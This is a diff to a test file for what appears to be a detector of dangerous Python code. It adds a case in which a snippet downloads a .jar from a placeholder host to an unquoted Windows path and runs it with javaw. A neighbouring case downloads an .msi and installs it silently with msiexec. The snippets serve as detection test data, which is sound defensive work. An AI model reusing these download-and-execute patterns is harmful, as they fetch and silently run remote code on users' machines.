@@ -235,6 +235,11 @@ describe('python: what comes in, what was written, class bodies', () => {
       ['download-file', 'run-downloaded'],
     ],
     [
+      'a download that Java starts, a path with spaces and nothing quoted',
+      'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.jar", "C:\\\\Start Menu\\\\a.jar")\nos.system("start /b cmd /c javaw -jar C:\\\\Start Menu\\\\a.jar")',
+      ['download-file', 'run-downloaded'],
+    ],
+    [
       'a download handed to the installer of Windows',
       'import os, urllib.request\nurllib.request.urlretrieve("https://host.invalid/a.msi", "a.msi")\nos.system("msiexec /qn /i a.msi")',
       ['download-file', 'run-downloaded'],
